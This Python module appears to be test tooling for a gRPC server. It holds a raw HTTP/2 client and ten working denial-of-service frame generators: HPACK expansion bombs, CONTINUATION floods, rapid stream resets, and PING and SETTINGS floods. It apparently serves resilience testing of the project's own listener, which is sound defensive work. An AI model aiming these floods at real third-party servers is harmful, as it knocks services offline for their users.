"""A client that keeps none of HTTP/2's promises: raw frames, no acknowledged SETTINGS, header blocks made to expand.

gRPC's own client cannot show what a stranger can do to a listener: it acknowledges the limits that it is told, and
keeps them. This one never reads what it is told, so it never does either. It stops by itself after `bytes_max`.
"""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from types import TracebackType

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_FRAME_BYTES_MAX = 16_384


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def hello(*, window_bytes: int | None = None) -> bytes:
    """`window_bytes`: how much of an answer the peer may send at first."""
    return PREFACE + frame(_SETTINGS, 0, 0, b"" if window_bytes is None else struct.pack(">HI", 4, window_bytes))


def message_frame(stream: int, message: bytes) -> bytes:
    """A message in a DATA frame, with gRPC's five bytes before it."""
    return frame(_DATA, 0, stream, b"\0" + struct.pack(">I", len(message)) + message)


def window_frame(stream: int, count: int) -> bytes:
    return frame(_WINDOW_UPDATE, 0, stream, struct.pack(">I", count))


def header_frames(stream: int, block: bytes, *, is_whole: bool = True) -> bytes:
    """A header block as HEADERS and, if it is large, CONTINUATION. `is_whole`: its end is said."""
    parts = [block[at : at + _FRAME_BYTES_MAX] for at in range(0, len(block), _FRAME_BYTES_MAX)] or [b""]
    last = len(parts) - 1
    return b"".join(
        frame(_CONTINUATION if at else _HEADERS, _END_HEADERS if is_whole and at == last else 0, stream, part)
        for at, part in enumerate(parts)
    )


def _integer(value: int, prefix_bits: int, first: int) -> bytes:
    """HPACK's (RFC 7541, 5.1)."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    encoded = [first | most]
    value -= most
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes([*encoded, value])


def field(name: bytes, value: bytes, *, is_indexed: bool = False) -> bytes:
    """A literal; `is_indexed`: that enters the dynamic table, whose newest entry is named by `NEWEST`."""
    start = b"\x40" if is_indexed else b"\x00"
    return start + _integer(len(name), 7, 0) + name + _integer(len(value), 7, 0) + value


NEWEST = _integer(62, 7, 0x80)  # one byte, for a field of up to 4 KB


def call_of(path: str) -> bytes:
    """The header block of a call, whose four texts enter the dynamic table."""
    texts = {":path": path, ":authority": "a", "content-type": "application/grpc", "te": "trailers"}
    fields = (field(name.encode(), value.encode(), is_indexed=True) for name, value in texts.items())
    return b"\x83\x86" + b"".join(fields)  # POST, http


CALL = call_of("/bus.v1.Bus/Metadata")
CALL_AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"  # behind a CALL, on the same connection


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def indexed_fields() -> Iterator[bytes]:
    """Blocks that fill a frame with one-byte references to one field of the dynamic table."""
    streams = _streams()
    yield hello() + header_frames(next(streams), CALL)
    entry = field(b"x", b"y" * 8, is_indexed=True)
    for stream in streams:
        yield header_frames(stream, b"\x83\x86" + CALL[2:] + entry + NEWEST * 200_000)


def large_indexed_fields() -> Iterator[bytes]:
    """Blocks of references to one field that takes nearly all of the table."""
    streams = _streams()
    yield hello()
    entry = field(b"x", b"y" * 4_000, is_indexed=True)
    for stream in streams:
        yield header_frames(stream, CALL + entry + NEWEST * 200_000)


def tiny_fields() -> Iterator[bytes]:
    streams = _streams()
    yield hello()
    for stream in streams:
        yield header_frames(stream, CALL + field(b"a", b"") * 50_000)


def blocks_under_the_limit() -> Iterator[bytes]:
    """Blocks of 32 KiB by HTTP/2's count, where a field takes 32 bytes beside its own; a thousand bytes on the wire."""
    streams = _streams()
    yield hello() + header_frames(next(streams), CALL)
    for stream in streams:
        yield header_frames(stream, CALL + field(b"x", b"", is_indexed=True) + NEWEST * 900)


def endless_continuations() -> Iterator[bytes]:
    yield hello() + header_frames(1, CALL, is_whole=False)
    while True:
        yield frame(_CONTINUATION, 0, 1, field(b"a", b"b") * 3_000)


def empty_continuations() -> Iterator[bytes]:
    yield hello() + header_frames(1, CALL, is_whole=False)
    while True:
        yield frame(_CONTINUATION, 0, 1, b"") * 1_000


def small_calls() -> Iterator[bytes]:
    """Fifteen bytes each: what is said of them is in the dynamic table."""
    streams = _streams()
    yield hello() + header_frames(next(streams), CALL)
    while True:
        yield b"".join(
            frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, CALL_AGAIN)
            for stream in itertools.islice(streams, 1_000)
        )


def reset_calls() -> Iterator[bytes]:
    """Each is taken back as soon as it is made."""
    streams = _streams()
    yield hello() + header_frames(next(streams), CALL)
    while True:
        yield b"".join(
            frame(_HEADERS, _END_HEADERS, stream, CALL_AGAIN) + frame(_RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in itertools.islice(streams, 1_000)
        )


def pings() -> Iterator[bytes]:
    yield hello()
    while True:
        yield frame(_PING, 0, 0, b"12345678") * 1_000


def settings() -> Iterator[bytes]:
    yield hello()
    while True:
        yield frame(_SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff" * 10) * 200


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (
        indexed_fields,
        large_indexed_fields,
        tiny_fields,
        blocks_under_the_limit,
        endless_continuations,
        empty_continuations,
        small_calls,
        reset_calls,
        pings,
        settings,
    )
}


class RudeClient:
    """One connection. `sent`: bytes that the system has taken."""

    def __init__(self, port: int, host: str = "127.0.0.1", *, source: str = "127.0.0.1") -> None:
        self._socket = socket.create_connection((host, port), timeout=10, source_address=(source, 0))
        self._socket.settimeout(0.2)
        self.sent = 0
        self.is_cut = False

    @property
    def arrived(self) -> int:
        """Bytes that the peer's system has taken (tcpi_bytes_acked)."""
        info = self._socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 128)
        return int.from_bytes(info[120:128], sys.byteorder)

    def send(self, data: bytes) -> bool:
        """Send it, and return whether the connection is still there. A peer that does not read for two seconds counts
        as one that has cut it: nothing more gets in."""
        view, stalled_s = memoryview(data), 0.0
        while view and not self.is_cut:
            try:
                count = self._socket.send(view[:65_536])
            except TimeoutError:
                stalled_s += 0.2
                self.is_cut = stalled_s > 2
                continue
            except OSError:
                self.is_cut = True
                continue
            stalled_s = 0.0
            self.sent += count
            view = view[count:]
        return not self.is_cut

    def attack(self, pieces: Iterator[bytes], *, bytes_max: int, bytes_a_second: float = 10e6) -> None:
        """Send until it is cut, or has sent so much."""
        started = time.monotonic()
        for piece in pieces:
            for at in range(0, len(piece), 65_536):
                ahead_s = self.sent / bytes_a_second - (time.monotonic() - started)
                if ahead_s > 0.005:
                    time.sleep(ahead_s)
                if self.sent >= bytes_max or not self.send(piece[at : at + 65_536]):
                    return

    def wait_until_cut(self, seconds_max: float) -> bool:
        """Wait for the peer to end the connection, and return whether it did. What it says is thrown away."""
        deadline = time.monotonic() + seconds_max
        while not self.is_cut and time.monotonic() < deadline:
            try:
                self.is_cut = not self._socket.recv(65_536)
            except TimeoutError:
                continue
            except OSError:
                self.is_cut = True
        return self.is_cut

    def close(self) -> None:
        with suppress(OSError):
            self._socket.close()

    def __enter__(self) -> RudeClient:
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self.close()
